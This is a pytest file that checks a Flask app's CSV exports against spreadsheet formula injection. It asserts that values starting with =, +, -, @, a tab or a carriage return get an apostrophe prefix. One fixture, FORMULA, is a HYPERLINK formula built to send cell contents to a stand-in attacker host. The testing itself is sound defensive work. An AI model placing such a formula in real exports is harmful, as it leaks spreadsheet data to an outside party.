"""CSV injection: text a spreadsheet would run as a formula leaves every CSV download as text."""
from __future__ import annotations

import csv
import io

import pytest
from flask import Flask

from app.metric_labels import csv_response
from engine import spreadsheet_safe
from engine.exports import _csv_line

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'


@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"])
def test_text_that_could_start_a_formula_is_written_as_text(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["重庆某建设有限公司", "a=b", "", 5, -3, 2.5, True])
def test_other_values_and_numbers_are_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_the_page_downloads_and_the_event_export_write_no_live_formula():
    with Flask(__name__).app_context():
        body = csv_response("t", ["标题", "天数"], [[FORMULA, -3], [None, "@x"]]).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows == [["标题", "天数"], ["'" + FORMULA, "-3"], ["", "'@x"]]
    assert next(csv.reader(io.StringIO(_csv_line(["-1", None, 7])))) == ["'-1", "", "7"]
